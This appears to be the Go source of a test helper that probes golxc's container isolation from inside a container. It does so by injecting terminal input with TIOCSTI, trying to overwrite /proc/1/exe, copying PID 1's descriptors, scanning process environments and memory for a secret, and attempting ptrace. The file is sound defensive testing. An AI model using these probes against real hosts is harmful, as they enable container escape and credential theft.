// Command attacker plays a container's root against golxc's tools, for
// the attack tests (test/attack_*_test.go). It is built static and copied
// into a container's rootfs; it prints what it found, one fact a line,
// and the test judges.
//
//	inject [FILE]  TIOCSTI "echo INJECTED\n" into fd 0 and /dev/tty; say
//	          which devpts instance each standard descriptor is on (to
//	          FILE too)
//	interact  print the window size, echo typed lines until "hello",
//	          print the size again after a SIGWINCH, exit 7
//	exe       try to read and rewrite /proc/1/exe; classify /proc/1/fd
//	exegrab STOPFILE
//	          hold the exe of the first process caught before its exec and
//	          try every way of writing it or reaching beside it (exegrab.go)
//	escape MAJOR:MINOR FSTYPE MARKER SOCKET HOSTNAME [mounts]
//	          try each way out of a privileged container (escape.go)
//	bpfdetach DIR
//	          try to detach the device programs of the cgroup2 directory DIR
//	watch SECRET DEV INO STOPFILE
//	          scan /proc for processes that appear, and try on each what a
//	          container's root can: read its environment and its memory for
//	          SECRET (a variable of the host's lxc-attach), list its fds for
//	          host paths, open its exe for writing, and stat the exe to see
//	          whether it is the host's golxc (DEV, INO). Print "READY" after
//	          the first scan, one "FOUND ..." line per finding, and "SEEN n
//	          PRE-EXEC m" when STOPFILE appears.
//	squat NAME
//	          on the host: listen on the abstract unix socket NAME (LXC's
//	          command socket's name, say), print "READY", accept and close
//	          connections until stdin closes
//	syscall DIR [ABI:]NAME...
//	          make each system call (ABI 64, x32 or i386) with arguments the
//	          kernel refuses harmlessly, print "ABI:NAME errno N" or "ok"
//	          (mkdir makes DIR-ABI, umount2 force-unmounts DIR)
//	confine PROGRAM ARG...
//	          (on the host) run PROGRAM under a seccomp filter that allows
//	          everything, as a golxc nested in a container runs
//	holdfds   (as a start hook) copy every descriptor of PID 1 (the init
//	          stage: its sync socket among them) with pidfd_getfd, leave a
//	          process of its own session holding them, say "STOLEN n"
//	sleepforever
//	          hold what was inherited and sleep
//	ptrace PID
//	          try PTRACE_SEIZE, then PTRACE_ATTACH, on PID; print
//	          "PTRACE_SEIZE ok" or "PTRACE_SEIZE errno N" (and so for
//	          ATTACH), detaching at once from what it got
package main

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"os"
	"os/signal"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attacker inject [FILE] | interact | exe | escape ... | watch SECRET DEV INO STOPFILE | squat NAME | syscall DIR [ABI:]NAME... | confine PROGRAM ARG...")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "inject":
		inject()
	case "interact":
		os.Exit(interact())
	case "exe":
		exe()
	case "exegrab":
		exegrab(os.Args[2])
	case "exepid1":
		exePID1()
	case "escape":
		escape(os.Args[2:])
	case "bpfdetach":
		if len(os.Args) != 3 {
			fmt.Fprintln(os.Stderr, "usage: attacker bpfdetach CGROUP2DIR")
			os.Exit(2)
		}
		bpfDetach(os.Args[2])
	case "watch":
		if len(os.Args) != 6 {
			os.Exit(2)
		}
		dev, _ := strconv.ParseUint(os.Args[3], 10, 64)
		ino, _ := strconv.ParseUint(os.Args[4], 10, 64)
		watch([]byte(os.Args[2]), dev, ino, os.Args[5])
	case "squat":
		if len(os.Args) != 3 {
			os.Exit(2)
		}
		squat(os.Args[2])
	case "syscall":
		if len(os.Args) < 4 {
			os.Exit(2)
		}
		syscalls(os.Args[2], os.Args[3:])
	case "holdfds":
		holdFDs()
	case "sleepforever":
		select {}
	case "ptrace":
		if len(os.Args) != 3 {
			os.Exit(2)
		}
		pid, err := strconv.Atoi(os.Args[2])
		if err != nil {
			os.Exit(2)
		}
		tryPtrace(pid)
	case "confine":
		if len(os.Args) < 3 {
			os.Exit(2)
		}
		confine(os.Args[2:])
	default:
		fmt.Fprintln(os.Stderr, "unknown mode", os.Args[1])
		os.Exit(2)
	}
}

// where says whether fd is a terminal of the container's own devpts (the
// one mounted on /dev/pts), another terminal ("foreign-tty", e.g. the
// host's), or not a terminal.
func where(fd int) string {
	if _, err := unix.IoctlGetTermios(fd, unix.TCGETS); err != nil {
		return "not-a-tty"
	}
	var st, pts unix.Stat_t
	if err := unix.Fstat(fd, &st); err != nil {
		return "error: " + err.Error()
	}
	if err := unix.Stat("/dev/pts/ptmx", &pts); err != nil {
		return "error: " + err.Error()
	}
	if st.Dev == pts.Dev {
		return "container-tty"
	}
	return "foreign-tty"
}

func sti(fd int, s string) error {
	for i := 0; i < len(s); i++ {
		b := s[i]
		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&b))); errno != 0 {
			return errno
		}
	}
	return nil
}

func inject() {
	// A copy of the report goes to a file when asked: without a console
	// the standard descriptors lead nowhere.
	var w io.Writer = os.Stdout
	if len(os.Args) > 2 {
		f, err := os.Create(os.Args[2])
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		defer f.Close()
		w = io.MultiWriter(os.Stdout, f)
	}
	for fd := 0; fd < 3; fd++ {
		fmt.Fprintf(w, "fd%d: %s\n", fd, where(fd))
	}
	report := func(what string, err error) {
		if err != nil {
			fmt.Fprintf(w, "inject %s: %v\n", what, err)
		} else {
			fmt.Fprintf(w, "inject %s: ok\n", what)
		}
	}
	report("fd0", sti(0, "echo INJECTED\n"))
	tty, err := os.OpenFile("/dev/tty", os.O_RDWR, 0)
	if err != nil {
		fmt.Fprintf(w, "/dev/tty: %v\n", err)
		report("/dev/tty", err)
	} else {
		// /dev/tty is the controlling terminal, but its inode is the
		// /dev/tty node's: name it through fd 0 when that is the same
		// terminal (TIOCGSID answers only on one's controlling terminal).
		is := "foreign-tty"
		if _, err := unix.IoctlGetInt(0, unix.TIOCGSID); err == nil {
			is = where(0)
		}
		fmt.Fprintf(w, "/dev/tty: %s\n", is)
		report("/dev/tty", sti(int(tty.Fd()), "echo INJECTED\n"))
		tty.Close()
	}
	fmt.Fprintln(w, "done")
}

func size() string {
	ws, err := unix.IoctlGetWinsize(0, unix.TIOCGWINSZ)
	if err != nil {
		return "error " + err.Error()
	}
	return fmt.Sprintf("%d %d", ws.Row, ws.Col)
}

func interact() int {
	winch := make(chan os.Signal, 1)
	signal.Notify(winch, syscall.SIGWINCH)
	fmt.Printf("fd0: %s\n", where(0))
	fmt.Printf("size: %s\n", size())
	fmt.Println("ready")
	sc := bufio.NewScanner(os.Stdin)
	for sc.Scan() {
		fmt.Printf("got: %s\n", sc.Text())
		if sc.Text() == "hello" {
			break
		}
	}
	fmt.Println("winch-ready")
	select {
	case <-winch:
		fmt.Printf("resized: %s\n", size())
	case <-time.After(20 * time.Second):
		fmt.Println("no SIGWINCH")
	}
	return 7
}

func exe() {
	link, err := os.Readlink("/proc/1/exe")
	fmt.Printf("exe: %s %v\n", link, err)
	var sfs unix.Statfs_t
	err = unix.Statfs("/proc/1/exe", &sfs)
	fmt.Printf("exefs: %#x %v\n", sfs.Type, err)
	if f, err := os.OpenFile("/proc/1/exe", os.O_WRONLY, 0); err != nil {
		fmt.Printf("open-write: %v\n", err)
	} else {
		_, err := f.Write([]byte("\x7fELF-overwritten"))
		f.Close()
		fmt.Printf("open-write: ok, write: %v\n", err)
	}
	if err := os.Truncate("/proc/1/exe", 0); err != nil {
		fmt.Printf("truncate: %v\n", err)
	} else {
		fmt.Println("truncate: ok")
	}
	listFDs("1")
	listFDs("self")
}

// listFDs prints "fd PROC/N: CLASS LINK" for each descriptor of a process.
func listFDs(proc string) {
	dir := filepath.Join("/proc", proc, "fd")
	ents, err := os.ReadDir(dir)
	if err != nil {
		fmt.Printf("fds of %s: %v\n", proc, err)
		return
	}
	var fds []int
	for _, e := range ents {
		n, _ := strconv.Atoi(e.Name())
		fds = append(fds, n)
	}
	sort.Ints(fds)
	for _, n := range fds {
		p := filepath.Join(dir, strconv.Itoa(n))
		link, err := os.Readlink(p)
		if err != nil {
			continue // the directory's own descriptor, gone
		}
		fmt.Printf("fd %s/%d: %s %s\n", proc, n, classify(p, link), link)
	}
}

// classify says whether the file behind /proc/1/fd/N is an anonymous
// object (pipe, socket, anon inode), a file of the container's (its path
// inside the container names the same inode), or anything else: a host
// file, which the container could reopen through /proc/1/fd.
func classify(p, link string) string {
	for _, anon := range []string{"pipe:", "socket:", "anon_inode:"} {
		if strings.HasPrefix(link, anon) {
			return "anon"
		}
	}
	var behind, named unix.Stat_t
	if err := unix.Stat(p, &behind); err != nil {
		return "unknown"
	}
	if err := unix.Stat(link, &named); err == nil && named.Dev == behind.Dev && named.Ino == behind.Ino {
		return "container"
	}
	return "host"
}

func watch(secret []byte, dev, ino uint64, stop string) {
	self := os.Getpid()
	ownBnd = capField(self, "CapBnd:")
	ownCgroup, _ = os.ReadFile("/proc/self/cgroup")
	known := map[int]bool{}
	for _, p := range pids() {
		known[p] = true
	}
	fmt.Println("READY")
	seen, preExec := 0, 0
	for {
		if _, err := os.Stat(stop); err == nil {
			break
		}
		for _, p := range pids() {
			if known[p] || p == self {
				continue
			}
			known[p] = true
			seen++
			if inspect(p, secret, dev, ino) {
				preExec++
			}
		}
	}
	fmt.Printf("SEEN %d PRE-EXEC %d\n", seen, preExec)
}

// pids lists /proc's numeric entries.
func pids() []int {
	d, err := os.Open("/proc")
	if err != nil {
		return nil
	}
	defer d.Close()
	names, _ := d.Readdirnames(-1)
	var ps []int
	for _, n := range names {
		if p, err := strconv.Atoi(n); err == nil {
			ps = append(ps, p)
		}
	}
	return ps
}

// inspect tries everything on pid and reports whether it caught the
// process before its exec (its exe not yet the program's).
func inspect(pid int, secret []byte, dev, ino uint64) (preExec bool) {
	dir := "/proc/" + strconv.Itoa(pid)
	exe, _ := os.Readlink(dir + "/exe")
	preExec = exe != "" && !strings.HasPrefix(exe, "/bin/") && !strings.HasPrefix(exe, "/usr/")
	var st unix.Stat_t
	if unix.Stat(dir+"/exe", &st) == nil && st.Dev == dev && st.Ino == ino {
		fmt.Printf("FOUND pid %d runs the host's golxc (exe %s)\n", pid, exe)
	}
	if b, err := os.ReadFile(dir + "/environ"); err == nil && bytes.Contains(b, secret) {
		fmt.Printf("FOUND pid %d environ holds the host's secret (exe %s)\n", pid, exe)
	}
	if ents, err := os.ReadDir(dir + "/fd"); err == nil {
		for _, e := range ents {
			target, err := os.Readlink(dir + "/fd/" + e.Name())
			if err != nil || allowedFD(target) {
				continue
			}
			fmt.Printf("FOUND pid %d fd %s -> %s (exe %s)\n", pid, e.Name(), target, exe)
		}
	}
	// Rewrite the first byte with itself: harmless, but only possible if
	// the file can be written.
	if f, err := os.OpenFile(dir+"/exe", os.O_RDWR, 0); err == nil {
		var b [1]byte
		if _, err := f.ReadAt(b[:], 0); err == nil {
			if _, err := f.WriteAt(b[:], 0); err == nil {
				fmt.Printf("FOUND pid %d exe %s is writable\n", pid, exe)
			}
		}
		f.Close()
	}
	// What it holds before its exec is no more than the container's root
	// has: capabilities within the container's bounding set, and the
	// container's cgroups (through it, a container's root that ptraced
	// it would otherwise gain the rest).
	if eff := capField(pid, "CapEff:"); eff&^ownBnd != 0 {
		fmt.Printf("FOUND pid %d holds capabilities %x outside the container's bounding set %x (exe %s)\n", pid, eff, ownBnd, exe)
	}
	if cg, err := os.ReadFile(dir + "/cgroup"); err == nil && len(cg) > 0 && !bytes.Equal(cg, ownCgroup) {
		fmt.Printf("FOUND pid %d is in other cgroups than the container's: %q (exe %s)\n", pid, cg, exe)
	}
	if scanMem(pid, secret) {
		fmt.Printf("FOUND pid %d memory holds the host's secret (exe %s)\n", pid, exe)
	}
	return preExec
}

// allowedFD says whether an fd target is something an attached process
// may hold: its stdio (pipes, /dev/null, a pty) and anonymous kernel
// objects. Any other path is the host's.
func allowedFD(t string) bool {
	for _, p := range []string{"pipe:", "socket:", "anon_inode:", "/dev/null", "/dev/pts/"} {
		if strings.HasPrefix(t, p) {
			return true
		}
	}
	return false
}

// scanMem reads pid's writable private mappings (stack, heap, data: where
// an environment and copies of it live) looking for secret.
func scanMem(pid int, secret []byte) bool {
	maps, err := os.Open(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return false
	}
	defer maps.Close()
	mem, err := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
	if err != nil {
		return false
	}
	defer mem.Close()
	budget := int64(64 << 20)
	sc := bufio.NewScanner(maps)
	for sc.Scan() {
		f := strings.Fields(sc.Text())
		if len(f) < 2 || !strings.HasPrefix(f[1], "rw") {
			continue
		}
		lo, hi, ok := strings.Cut(f[0], "-")
		if !ok {
			continue
		}
		a, err1 := strconv.ParseUint(lo, 16, 64)
		b, err2 := strconv.ParseUint(hi, 16, 64)
		if err1 != nil || err2 != nil || b <= a {
			continue
		}
		size := int64(b - a)
		if size > budget {
			size = budget
		}
		budget -= size
		buf := make([]byte, size)
		n, _ := mem.ReadAt(buf, int64(a))
		if bytes.Contains(buf[:n], secret) {
			return true
		}
		if budget <= 0 {
			break
		}
	}
	return false
}

// The watcher's own bounding set and cgroups: the container's.
var (
	ownBnd    uint64
	ownCgroup []byte
)

// capField reads a capability mask line (CapEff:, CapBnd: ...) of pid's
// status; 0 when it cannot.
func capField(pid int, field string) uint64 {
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/status")
	if err != nil {
		return 0
	}
	for _, line := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(line, field); ok {
			m, _ := strconv.ParseUint(strings.TrimSpace(v), 16, 64)
			return m
		}
	}
	return 0
}

// squat holds abstract socket name for as long as stdin is open.
func squat(name string) {
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err == nil {
		err = unix.Bind(fd, &unix.SockaddrUnix{Name: "@" + name})
	}
	if err == nil {
		err = unix.Listen(fd, 16)
	}
	if err != nil {
		fmt.Println("ERROR", err)
		os.Exit(1)
	}
	go func() {
		for {
			c, _, err := unix.Accept(fd)
			if err != nil {
				return
			}
			unix.Close(c)
		}
	}()
	fmt.Println("READY")
	_, _ = io.Copy(io.Discard, os.Stdin)
}

// holdFDs takes a copy of each descriptor of PID 1 and leaves them with a
// process that outlives this one (its own session, no output to wait for).
func holdFDs() {
	pidfd, err := unix.PidfdOpen(1, 0)
	if err != nil {
		fmt.Println("pidfd_open 1:", err)
		os.Exit(1)
	}
	var files []*os.File
	for fd := 0; fd < 64; fd++ {
		if n, err := unix.PidfdGetfd(pidfd, fd, 0); err == nil {
			files = append(files, os.NewFile(uintptr(n), "stolen"))
		}
	}
	fmt.Println("STOLEN", len(files))
	null, err := os.OpenFile("/dev/null", os.O_RDWR, 0)
	if err != nil {
		os.Exit(1)
	}
	self, err := os.Executable()
	if err != nil {
		self = "/attacker"
	}
	attr := &os.ProcAttr{Files: append([]*os.File{null, null, null}, files...), Sys: &syscall.SysProcAttr{Setsid: true}}
	if _, err := os.StartProcess(self, []string{self, "sleepforever"}, attr); err != nil {
		fmt.Println("start the holder:", err)
		os.Exit(1)
	}
}

// tryPtrace tries to become PID's tracer, both ways, and lets go of it
// at once when it could.
func tryPtrace(pid int) {
	for _, r := range []struct {
		name string
		req  int
	}{{"PTRACE_SEIZE", unix.PTRACE_SEIZE}, {"PTRACE_ATTACH", unix.PTRACE_ATTACH}} {
		_, _, e := unix.Syscall6(unix.SYS_PTRACE, uintptr(r.req), uintptr(pid), 0, 0, 0, 0)
		if e != 0 {
			fmt.Printf("%s errno %d\n", r.name, int(e))
			continue
		}
		fmt.Printf("%s ok\n", r.name)
		if r.req == unix.PTRACE_ATTACH {
			var ws unix.WaitStatus
			_, _ = unix.Wait4(pid, &ws, unix.WALL, nil)
		} else {
			// A seized tracee must be stopped to be detached.
			_, _, _ = unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_INTERRUPT, uintptr(pid), 0, 0, 0, 0)
			var ws unix.WaitStatus
			_, _ = unix.Wait4(pid, &ws, unix.WALL, nil)
		}
		_ = unix.PtraceDetach(pid)
	}
}
